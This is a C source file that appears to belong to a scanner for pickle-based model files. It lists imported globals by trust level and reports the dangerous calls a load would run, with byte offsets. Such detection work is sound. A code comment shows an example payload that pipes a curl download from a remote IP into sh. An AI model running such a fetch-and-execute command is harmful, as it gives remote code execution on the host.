/* The globals of a pickle with their uses, and the calls that a load would run. */
#include "base/base.h"
#include "facts/check_text.h"
#include "facts/facts.h"
#include "facts/notes.h"
#include "facts/summary.h"
#include "text/text.h"

#define MOST_CALLS  4   /* dangerous globals with their arguments and offsets */
#define MOST_EVENTS 6   /* offsets listed for one of them */
#define MOST_KNOWN  40  /* globals of a safe file */
#define MOST_LISTED 200 /* globals of any other */
#define ARGUMENTS   400 /* bytes of arguments shown */
#define WIDE_NAME   64  /* cells; longer names exceed the column */
#define NARROW_NAME 44  /* the same if the width is limited */

static enum trust trust_of(const struct file_facts *facts, uint32_t index,
                           const char **ret_about)
{
    return verdict_judge(facts->show->model, &facts->show->session->verdict, index,
                         ret_about);
}

static struct str name_of(const struct file_facts *facts, uint32_t index)
{
    const struct model *model = facts->show->model;

    return model_string(model, model->pickle.globals[index].name);
}

/* --- The list */

/* Column widths of the list: names, counts, purpose of each global. */
struct global_columns {
    size_t name, count;
    bool about; /* is there room for it? */
};

#define COUNT_CELLS 8  /* of a count, with the gap before it; at least half of them */
#define USES_CELLS  5  /* of " uses" */
#define ABOUT_CELLS 22 /* of "  builds a dictionary", and longer ones */

static size_t name_cells(const struct file_facts *facts)
{
    size_t most = 0, limit = facts->cells > 0 ? NARROW_NAME : WIDE_NAME;

    for (uint32_t i = 0; i < facts->show->model->pickle.n_globals; i++) {
        size_t width = text_width(name_of(facts, i));

        most = width > most && width <= limit ? width : most;
    }
    return most;
}

/* If space is short, shrinks the gap, then drops the last column, then cuts long names
 * at the front. */
static struct global_columns fit_columns(const struct file_facts *facts)
{
    struct global_columns columns = {name_cells(facts), COUNT_CELLS, true};
    size_t room = facts->cells > 2 ? facts->cells - 2 : 1;
    size_t want = columns.name + USES_CELLS + ABOUT_CELLS;

    if (facts->cells == 0) {
        columns.count = COUNT_CELLS - 3;
        return columns;
    }
    if (want + COUNT_CELLS > room)
        columns.count = want + COUNT_CELLS / 2 < room ? room - want : COUNT_CELLS / 2;
    columns.about = want + columns.count <= room;
    if (!columns.about && columns.name + columns.count + USES_CELLS > room)
        columns.name = room > columns.count + USES_CELLS + 8
                           ? room - columns.count - USES_CELLS
                           : 8;
    return columns;
}

/* "✗ posix.system                          1 use   runs a shell command" */
static void global_fact(struct file_facts *facts, uint32_t index,
                        const struct global_columns *columns, const char *label)
{
    static const enum colour roles[] = {COLOUR_NONE, COLOUR_WARNING, COLOUR_ALARM};
    uint64_t uses = check_uses(&facts->show->model->pickle.globals[index]);
    struct facts *to = facts->to;
    struct buf name = BUF_INIT, cut = BUF_INIT, count = BUF_INIT;
    const char *about;
    enum trust trust = trust_of(facts, index, &about);

    escape_terminal(&name, name_of(facts, index));
    text_commas(&count, uses);
    buf_printf(&to->text, "%s ",
               note_sign(trust == TRUST_KNOWN ? COLOUR_GOOD : roles[trust]));
    text_cut_front(&cut, buf_span(&name), columns->about ? SIZE_MAX / 2 : columns->name,
                   "…");
    fact_figure(to);
    buf_str(&to->text, buf_span(&cut));
    fact_named(to, "global", FIGURE_TEXT, 0);
    buf_fill(&to->text, ' ',
             columns->name > text_width(buf_span(&cut))
                 ? columns->name - text_width(buf_span(&cut))
                 : 0);
    buf_fill(&to->text, ' ',
             columns->count > count.len ? columns->count - count.len : 1);
    fact_count(to, "uses", uses);
    buf_text(&to->text, uses == 1 ? " use " : " uses");
    if (*about && columns->about)
        buf_printf(&to->text, "  %s", about);
    fact_end_as(to, "globals", label, roles[trust]);
    buf_release(&name);
    buf_release(&cut);
    buf_release(&count);
}

static bool names_dtype(const struct file_facts *facts, uint32_t index)
{
    const char *about;

    return trust_of(facts, index, &about) == TRUST_KNOWN &&
           about == verdict_names_dtype;
}

/* "✓ torch.FloatStorage, torch.LongStorage          names a dtype": all on one line. */
static void dtypes_fact(struct file_facts *facts, const struct global_columns *columns)
{
    struct buf names = BUF_INIT;

    for (uint32_t i = 0; i < facts->show->model->pickle.n_globals; i++) {
        if (!names_dtype(facts, i))
            continue;
        buf_text(&names, names.len > 0 ? ", " : "");
        escape_terminal(&names, name_of(facts, i));
    }
    if (names.len > 0) {
        buf_text(&facts->to->text, "✓ ");
        text_pad(&facts->to->text, buf_span(&names),
                 columns->name + columns->count + USES_CELLS);
        buf_text(&facts->to->text, columns->about ? "  names a dtype" : "");
        fact_end(facts->to, "", COLOUR_NONE);
    }
    buf_release(&names);
}

/* Lists dangerous globals first. In a panel the list is apart from the verdict, so it
 * has a label there, and the dtypes share a line. */
void facts_globals(struct file_facts *facts)
{
    static const enum trust order[] = {TRUST_DANGER, TRUST_UNKNOWN, TRUST_KNOWN};
    bool safe = facts->show->session->verdict.verdict == VERDICT_SAFE;
    bool merged = facts->brief && !safe;
    uint32_t all = 0, most = safe ? MOST_KNOWN : MOST_LISTED;
    struct global_columns columns = fit_columns(facts);

    for (size_t k = 0; k < COUNT_OF(order); k++)
        for (uint32_t i = 0; i < facts->show->model->pickle.n_globals; i++)
            if (trust_of(facts, i, NULL) == order[k] && name_of(facts, i).len > 0 &&
                !(merged && names_dtype(facts, i)) && all++ < most)
                global_fact(facts, i, &columns,
                            all == 1 && facts->brief ? "globals" : "");
    if (merged)
        dtypes_fact(facts, &columns);
    if (all > most) {
        fact_count(facts->to, "more", all - most);
        buf_printf(&facts->to->text, " more: %s lists them all", facts->all);
        fact_end(facts->to, "", COLOUR_NONE);
    }
}

/* --- Calls that a load would run */

/* "posix.system("curl -s http://203.0.113.7/x.sh | sh")" */
static void call_fact(struct file_facts *facts, const struct pickle_event *event)
{
    const struct model *model = facts->show->model;
    struct facts *to = facts->to;

    fact_text(to, "global", name_of(facts, event->global));
    if (event->act == PICKLE_CALLS || event->act == PICKLE_MAKES)
        check_arguments(&to->text, model, event->args, ARGUMENTS);
    fact_end_as(to, "call", "  call", COLOUR_ALARM)->target =
        event->place == FINDING_NOWHERE ? NO_TARGET : event->place;
}

/* "model_best.pth/data.pkl  byte 15,339 GLOBAL  byte 15,410 REDUCE" */
static void where_fact(struct file_facts *facts, const struct pickle_global *global)
{
    const struct model *model = facts->show->model;
    const struct pickle_log *log = &model->pickle;
    struct facts *to = facts->to;
    int n = 0;

    for (uint32_t i = global->first; i != NO_EVENT && n < MOST_EVENTS;
         i = log->events[i].next, n++) {
        const struct pickle_event *event = &log->events[i];

        if (n == 0)
            fact_text(to, "pickle",
                      model_string(model, log->streams[event->stream].name));
        buf_text(&to->text, "  byte ");
        fact_figure(to);
        text_commas(&to->text, event->offset);
        fact_named(to, "offset", FIGURE_OFFSET, event->offset);
        buf_printf(&to->text, " %s", pickle_opcode_name(event->opcode));
    }
    fact_end_as(to, "where", "  where", COLOUR_NONE);
}

/* The first event that does more than name the global, or the first event. */
static const struct pickle_event *worst_event(const struct pickle_log *log,
                                              const struct pickle_global *global)
{
    for (uint32_t i = global->first; i != NO_EVENT; i = log->events[i].next)
        if (log->events[i].act != PICKLE_NAMES)
            return &log->events[i];
    return global->first == NO_EVENT ? NULL : &log->events[global->first];
}

void facts_calls(struct file_facts *facts)
{
    const struct pickle_log *log = &facts->show->model->pickle;
    int n = 0;

    for (uint32_t i = 0; i < log->n_globals && n < MOST_CALLS; i++) {
        const struct pickle_event *event;

        if (trust_of(facts, i, NULL) != TRUST_DANGER)
            continue;
        event = worst_event(log, &log->globals[i]);
        if (event)
            call_fact(facts, event);
        where_fact(facts, &log->globals[i]);
        n++;
    }
}
